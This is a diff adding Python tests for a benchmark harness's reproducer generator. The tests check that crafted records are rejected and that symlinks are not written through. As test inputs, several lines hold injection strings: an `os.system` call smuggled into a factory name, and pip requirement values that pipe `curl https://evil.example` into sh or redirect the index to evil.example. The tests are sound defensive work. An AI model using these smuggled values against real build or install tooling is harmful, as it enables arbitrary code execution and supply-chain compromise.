@@ -289,3 +289,167 @@ def test_environment_versions_that_are_versions_load(tmp_path):
 
     matrix = load_matrix(Path(__file__).resolve().parent.parent / "matrix.toml")
     assert matrix.environment("nightly").tensorflow == "nightly"
+
+
+# --- 1, 2, 3: reproducers ---------------------------------------------------------------------
+
+FINGERPRINT = {
+    "tensorflow": "2.21.0",
+    "keras": "3.15.1",
+    "keras_flavour": "keras3",
+    "numpy": "2.4.6",
+    "python": "3.11.7",
+    "companions": {"tensorflow-probability": "0.25.0"},
+}
+
+
+def repro_record(
+    target: str = "reference", factory: str = "harness.targets.reference:create_model", **fields
+):
+    data = record(**fields)
+    data["cell"] = {**data["cell"], "target": target}
+    data["id"] = data["id"].replace("/reference/", f"/{target}/")
+    data["log"] = data["log"].replace("/reference.", f"/{target}.")
+    data.setdefault("fingerprint", FINGERPRINT)
+    data["spec"] = {
+        "cell": data["cell"],
+        "config": {"name": "baseline", "role": "baseline"},
+        "scenario": {"name": SCENARIO, "sizes": [8]},
+        "target": {"name": target, "factory": factory},
+        "env": {"TF_CPP_MIN_LOG_LEVEL": "2"},
+    }
+    return data
+
+
+def repro(run: Path, data: dict, tmp_path: Path, *extra: str):
+    # run where there is no matrix.toml: the record is all it has, unless given --matrix
+    repo = str(Path(__file__).resolve().parent.parent)
+    proc = run_cli(
+        "repro", data["id"], "--run-dir", str(run), *extra, cwd=tmp_path, env={"PYTHONPATH": repo}
+    )
+    folder = run / "repro" / ENV / f"{data['cell']['target']}.{SCENARIO}.baseline"
+    return proc, folder
+
+
+def test_a_crafted_factory_is_never_written_into_repro_py(tmp_path):
+    factory = 'os import path\nimport os; os.system("touch PWNED")\nfrom os:path'
+    data = repro_record(factory=factory)
+    run = artifact(tmp_path / "run", [data])
+    proc, folder = repro(run, data, tmp_path)
+    assert proc.returncode == 2, proc.stdout + proc.stderr
+    [line] = proc.stderr.strip().splitlines()
+    assert "spec.target.factory: must look like package.module:callable" in line
+    assert "no reproducer written" in line and "\n" not in line
+    assert not folder.exists() and not (tmp_path / "PWNED").exists()
+    # nor does it survive a merge
+    out = tmp_path / "merged"
+    assert merge(run, out=out).returncode == 0
+    assert "os.system" not in (out / "results.jsonl").read_text()
+
+
+def test_the_reproducer_is_built_from_the_matrix_definition_of_the_cell(tmp_path):
+    """A well-formed but foreign factory in the spec of a matrix target: the matrix's own
+    factory is what repro.py imports. A target the matrix does not know keeps its spec's."""
+    matrix = Path(__file__).resolve().parent.parent / "matrix.toml"
+    known = repro_record(factory="evilpkg.payload:create_model")
+    foreign = repro_record(target="mine", factory="mypkg.models:create_model", config="baseline")
+    run = artifact(tmp_path / "run", [known, foreign])
+    proc, folder = repro(run, known, tmp_path, "--matrix", str(matrix))
+    assert proc.returncode == 0, proc.stderr
+    script = (folder / "repro.py").read_text()
+    assert "evilpkg" not in script and "def create_model" in script
+    assert f"the cell as defined by: {matrix}" in (folder / "README.md").read_text()
+    proc, folder = repro(run, foreign, tmp_path, "--matrix", str(matrix))
+    assert proc.returncode == 0, proc.stderr
+    assert "from mypkg.models import create_model" in (folder / "repro.py").read_text()
+
+
+@pytest.mark.parametrize(
+    "fingerprint, named",
+    [
+        (
+            {"numpy": "2.4.6\n--index-url https://evil.example/simple\nevil @ https://e/x.whl"},
+            "fingerprint.numpy",
+        ),
+        ({"tf_keras": "2.21.0 && curl https://evil.example | sh #"}, "fingerprint.tf_keras"),
+        (
+            {"companions": {"x\n--index-url https://evil.example/simple": "1.0"}},
+            "fingerprint.companions",
+        ),
+        (
+            {"companions": {"tensorflow-probability": "0.25.0; python_version<'3'"}},
+            "fingerprint.companions",
+        ),
+        ({"tensorflow": "2.21.0 --pre"}, "fingerprint.tensorflow"),
+        ({"tensorflow_dist": "evil @ https://evil.example/x.whl"}, "fingerprint.tensorflow_dist"),
+    ],
+)
+def test_a_crafted_fingerprint_writes_no_requirement_and_no_command(tmp_path, fingerprint, named):
+    data = repro_record(fingerprint={**FINGERPRINT, **fingerprint})
+    run = artifact(tmp_path / "run", [data])
+    proc, folder = repro(run, data, tmp_path)
+    assert proc.returncode == 2, proc.stdout + proc.stderr
+    [line] = proc.stderr.strip().splitlines()
+    assert named in line and "no reproducer written" in line
+    assert "evil.example" not in line or "\n" not in line
+    assert not folder.exists()
+
+
+def test_a_fit_fingerprint_gives_exact_pins(tmp_path):
+    data = repro_record(fingerprint={**FINGERPRINT, "tf_keras": "2.21.0"})
+    run = artifact(tmp_path / "run", [data])
+    proc, folder = repro(run, data, tmp_path)
+    assert proc.returncode == 0, proc.stderr
+    assert (folder / "requirements.txt").read_text().splitlines() == [
+        "tensorflow-cpu==2.21.0",
+        "keras==3.15.1",
+        "numpy==2.4.6",
+        "tensorflow-probability==0.25.0",
+    ]
+    assert "pip install --no-deps tf-keras==2.21.0 &&" in (folder / "README.md").read_text()
+
+
+def test_reproducer_writes_follow_no_link(tmp_path):
+    target = tmp_path / "outside.txt"
+    target.write_text("keep me\n")
+    dump = f"dumps/{ENV}/reference.{SCENARIO}.baseline"
+    data = repro_record(xla_dump=dump)
+    run = artifact(tmp_path / "run", [data])
+    (run / dump).mkdir(parents=True)
+    (run / dump / "module_0001.a.before_optimizations.txt").write_text("HloModule a\n")
+    proc, folder = repro(run, data, tmp_path)
+    assert proc.returncode == 0, proc.stderr
+    # a link planted where the HLO goes is replaced, never written through
+    (folder / "failing_module.hlo.txt").unlink()
+    (folder / "failing_module.hlo.txt").symlink_to(target)
+    proc, folder = repro(run, data, tmp_path)
+    assert proc.returncode == 0, proc.stderr
+    assert target.read_text() == "keep me\n"
+    assert (folder / "failing_module.hlo.txt").read_text() == "HloModule a\n"
+    # the cell's folder a link: refused, nothing written there
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    for child in folder.iterdir():
+        child.unlink()
+    folder.rmdir()
+    folder.symlink_to(elsewhere)
+    proc, _ = repro(run, data, tmp_path)
+    assert proc.returncode == 2 and "a symbolic link" in proc.stderr, proc.stderr
+    assert not list(elsewhere.iterdir())
+
+
+def test_atomic_writes_use_an_unpredictable_temporary_file(tmp_path):
+    import os
+
+    from harness.results import store
+
+    target = tmp_path / "outside.txt"
+    target.write_text("keep me\n")
+    (tmp_path / "out").mkdir()
+    (tmp_path / "out" / f".decision.json.{os.getpid()}.tmp").symlink_to(target)
+    store.write_text_atomic(tmp_path / "out" / "decision.json", "[]\n")
+    assert target.read_text() == "keep me\n"
+    assert (tmp_path / "out" / "decision.json").read_text() == "[]\n"
+    assert not [
+        p for p in (tmp_path / "out").iterdir() if p.name.endswith(".tmp") and not p.is_symlink()
+    ]
